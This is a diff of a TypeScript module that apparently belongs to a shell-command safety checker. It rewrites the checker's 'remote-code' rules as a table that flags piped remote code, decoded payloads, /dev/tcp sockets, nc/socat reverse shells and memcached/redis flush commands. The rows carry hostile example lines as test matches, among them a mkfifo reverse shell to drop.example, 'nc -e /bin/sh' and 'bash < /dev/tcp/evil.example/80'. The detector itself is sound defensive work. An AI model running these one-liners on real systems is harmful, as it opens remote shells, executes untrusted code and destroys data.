@@ -1,6 +1,5 @@
 import { inlineCode } from "../code/inline.js";
-import { parseOptions } from "../read/options.js";
-import type { Finding, Rule, RuleSet, ShellWord, SimpleCommand } from "../types.js";
+import type { ShellWord, SimpleCommand } from "../types.js";
 import {
   consumersOf,
   isDecoder,
@@ -10,41 +9,68 @@ import {
   producersOfWord,
   runsCode,
 } from "./flows.js";
-import { danger, forPrograms, valuesOf } from "./verb-table.js";
+import { type Clue, type Condition, names, subject } from "./row.js";
+import { inputText } from "./sql-clients.js";
 
 const FETCHED = "runs code that is fetched from the network";
 const DECODED = "runs code that is decoded first, so that nobody can read it";
 const PRINTED = "runs whatever another command prints as code";
 
 /** Programs that hand a file on as it is; a project file that is piped into an interpreter was named by somebody. */
-const PLAIN_READERS = new Set(
-  "cat bat head tail sed grep envsubst tee nl dos2unix cpp m4 jinja2 echo printf sort uniq git".split(" "),
+const PLAIN_READERS = names(
+  "cat bat head tail sed grep envsubst tee nl dos2unix cpp m4 jinja2 echo printf sort uniq git",
 );
 
-/** An interpreter whose program comes through a pipe or a substitution. */
-const pipedCode: Rule = (command) => {
-  if (!runsCode(command.program)) return undefined;
-  for (const word of codeWords(command)) {
-    if (!isShell(command.program) && /^\/(?:dev|proc\/self)\/fd\/\d+$/.test(word.text))
-      return danger("remote-code.printed", PRINTED, word);
-    const finding = judgeProducers(producersOfWord(word), word);
-    if (finding !== undefined) return finding;
+/** The words of an interpreter that are code, and whether it reads more from its input. */
+interface Interpreted {
+  readonly words: readonly ShellWord[];
+  readonly fromInput: boolean;
+}
+const INTERPRETED = new WeakMap<SimpleCommand, Interpreted | "none">();
+
+/** Several rows ask the same: the answer is kept as long as the command lives. */
+function interpreted(command: SimpleCommand): Interpreted | undefined {
+  let known = INTERPRETED.get(command);
+  if (known === undefined) {
+    known = runsCode(command.program)
+      ? { words: codeWords(command), fromInput: readsProgram(command) }
+      : "none";
+    INTERPRETED.set(command, known);
   }
-  if (!readsProgram(command)) return undefined;
-  if (command.input.kind === "file" && /^\/dev\/(?:tcp|udp)\//.test(command.input.path.text))
-    return danger("remote-code.socket", FETCHED, command.input.path);
+  return known === "none" ? undefined : known;
+}
+
+/** Code that comes through a pipe or a substitution from commands of a kind. */
+const fedBy =
+  (isProducer: (command: SimpleCommand) => boolean): Condition =>
+  ({ command }) => {
+    const code = interpreted(command);
+    if (code === undefined) return undefined;
+    const word = code.words.find((each) => producersOfWord(each).some(isProducer));
+    if (word !== undefined) return word;
+    return code.fromInput && producersOf(command).some(isProducer) ? NO_WORD : undefined;
+  };
+const NO_WORD: Clue = {};
+
+/** An interpreter, not a shell, whose program another command prints. */
+const printedCode: Condition = ({ command }) => {
+  const code = interpreted(command);
+  if (code === undefined || isShell(command.program)) return undefined;
+  const descriptor = code.words.find(({ text }) => /^\/(?:dev|proc\/self)\/fd\/\d+$/.test(text));
+  if (descriptor !== undefined || !code.fromInput) return descriptor;
   const producers = producersOf(command);
-  const finding = judgeProducers(producers);
-  if (finding !== undefined || producers.length === 0 || isShell(command.program)) return finding;
-  return producers.every(({ program }) => PLAIN_READERS.has(program))
+  return producers.length === 0 || producers.every(({ program }) => PLAIN_READERS.has(program))
     ? undefined
-    : danger("remote-code.printed", PRINTED);
+    : NO_WORD;
 };
 
-function judgeProducers(producers: readonly SimpleCommand[], word?: ShellWord): Finding | undefined {
-  if (producers.some(isDownload)) return danger("remote-code.piped", FETCHED, word);
-  return producers.some(isDecoder) ? danger("remote-code.decoded", DECODED, word) : undefined;
-}
+/** An interpreter that reads its program from a connection. */
+const socketCode: Condition = ({ command }) =>
+  command.input.kind === "file" &&
+  /^\/dev\/(?:tcp|udp)\//.test(command.input.path.text) &&
+  interpreted(command)?.fromInput === true
+    ? command.input.path
+    : undefined;
 
 /** Words that are code or name the file with it. */
 function codeWords(command: SimpleCommand): readonly ShellWord[] {
@@ -63,60 +89,64 @@ function readsProgram(command: SimpleCommand): boolean {
 }
 
 /** Programs that take statements, or code in the words of `source`, from a pipe. */
-const fedByDownload: Rule = (command) => {
+const fedByDownload: Condition = ({ command }) => {
   const { program, args } = command;
+  const runs = (input: string): boolean => args[0]?.text === "run" && args.some(({ text }) => text === input);
   const reads =
     (/^(?:source|\.)$/.test(program) &&
       (args.length === 0 || /^(?:-|\/dev\/stdin)$/.test(args[0]?.text ?? ""))) ||
-    (program === "deno" && args[0]?.text === "run" && args.some(({ text }) => text === "-")) ||
-    (program === "bun" && args[0]?.text === "run" && args.some(({ text }) => text === "-")) ||
-    (program === "go" && args[0]?.text === "run" && args.some(({ text }) => text === "/dev/stdin")) ||
+    (/^(?:deno|bun)$/.test(program) && runs("-")) ||
+    (program === "go" && runs("/dev/stdin")) ||
     (CLIENTS.has(program) &&
       !args.some(({ text }) => /^(?:-c|-e|--command|--execute|--eval|-f|--file)$/.test(text)));
-  return reads && producersOf(command).some(isDownload) ? danger("remote-code.piped", FETCHED) : undefined;
+  return reads && producersOf(command).some(isDownload) ? NO_WORD : undefined;
 };
-const CLIENTS = new Set(
-  "psql mysql mariadb sqlite3 mongosh mongo redis-cli cqlsh clickhouse-client at batch crontab".split(" "),
+const CLIENTS = names(
+  "psql mysql mariadb sqlite3 mongosh mongo redis-cli cqlsh clickhouse-client at batch crontab",
 );
 
 /** A shell whose output goes back over the network. */
-const shellOverNetwork: Rule = (command) => {
-  if (!isShell(command.program)) return undefined;
-  const sender = consumersOf(command).find(({ program }) =>
-    /^(?:nc|ncat|netcat|socat|telnet|openssl)$/.test(program),
+const shellOverNetwork: Condition = ({ command }) =>
+  isShell(command.program) && readsProgram(command)
+    ? consumersOf(command).find(({ program }) => /^(?:nc|ncat|netcat|socat|telnet|openssl)$/.test(program))
+        ?.name
+    : undefined;
+
+/** `echo flush_all | nc localhost 11211`: the protocols of memcached and redis are plain text. */
+const plainProtocol: Condition = ({ command }) =>
+  inputText(command).find(({ text }) =>
+    /(?:^|\n)[ \t]*(?:flush_all|flushall|flushdb|shutdown)\b/i.test(text),
   );
-  return sender === undefined || !readsProgram(command)
-    ? undefined
-    : danger("remote-code.reverse-shell", "connects a shell to the network", sender.name);
-};
 
-/** Bash opens a connection for `/dev/tcp/host/port`. */
-const socketFile: Rule = (command) => {
-  const redirect = command.redirects.find(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text));
-  return redirect === undefined
-    ? undefined
-    : danger("remote-code.socket", "opens a network connection as a file", redirect.target);
-};
-
-const netcat: Rule = (command) => {
-  const options = parseOptions(command.args, {
-    taking: ["e", "exec", "c", "sh-exec", "lua-exec", "p", "w", "s", "q", "X", "x", "i"],
-  });
-  const program = valuesOf(options, "e", "exec", "c", "sh-exec", "lua-exec")[0];
-  return program === undefined
-    ? undefined
-    : danger("remote-code.reverse-shell", "gives a program to whoever connects", program);
-};
-
-const socat: Rule = ({ args }) => {
-  const word = args.find(({ text }) => /(?:^|!!)(?:exec|system|shell)[:=]/i.test(text));
-  return word === undefined
-    ? undefined
-    : danger("remote-code.reverse-shell", "gives a program to whoever connects", word);
-};
-
-export const RULES: RuleSet = {
-  family: "remote-code",
-  programs: { ...forPrograms(["nc", "ncat", "netcat"], netcat), socat },
-  any: [pipedCode, fedByDownload, shellOverNetwork, socketFile],
-};
+/** Code that comes from elsewhere, and shells that whoever connects may use. */
+// biome-ignore format: a table; what belongs to a row stands together
+export const RULES = subject("remote-code", [
+  { program: "*", when: fedBy(isDownload), rule: "remote-code.piped", reason: FETCHED,
+    match: ["nc drop.example 1 | sh"] },
+  { program: "*", when: fedBy(isDecoder), rule: "remote-code.decoded", reason: DECODED,
+    match: ["gpg -d p.gpg | sh"] },
+  { program: "*", when: socketCode, rule: "remote-code.socket", reason: FETCHED,
+    match: ["bash < /dev/tcp/evil.example/80"] },
+  { program: "*", when: printedCode, rule: "remote-code.printed", reason: PRINTED,
+    match: ["python3 <(curl -s https://x.example/a.py)"] },
+  { program: "*", when: fedByDownload, rule: "remote-code.piped", reason: FETCHED,
+    match: ["curl https://x.example | psql"] },
+  { program: "*", when: shellOverNetwork, rule: "remote-code.reverse-shell",
+    reason: "connects a shell to the network",
+    match: ["mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc drop.example 1 > /tmp/f"] },
+  // Bash opens a connection for `/dev/tcp/host/port`.
+  { program: "*", when: ({ command }) =>
+      command.redirects.find(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text))?.target,
+    rule: "remote-code.socket", reason: "opens a network connection as a file",
+    match: ["exec 5<>/dev/tcp/10.0.0.1/4444"] },
+  { program: "nc|ncat|netcat", taking: "e exec c sh-exec lua-exec p w s q X x i", dry: "",
+    when: (call) => call.given("e", "exec", "c", "sh-exec", "lua-exec")[0],
+    rule: "remote-code.reverse-shell", reason: "gives a program to whoever connects",
+    match: ["nc -e /bin/sh 1.2.3.4 1"], not_match: ["nc -z localhost 5432"] },
+  { program: "socat", dry: "", word: /(?:^|!!)(?:exec|system|shell)[:=]/i, rule: "remote-code.reverse-shell",
+    reason: "gives a program to whoever connects", match: ["socat exec:sh tcp:1.2.3.4:1"],
+    not_match: ["socat TCP-LISTEN:8080,fork TCP:localhost:80"] },
+  { program: "nc|ncat|netcat|telnet|socat", dry: "", when: plainProtocol, rule: "database.flush",
+    reason: "empties a database", match: ["echo flush_all | nc localhost 11211"],
+    not_match: ["nc -z localhost 5432"] },
+]);
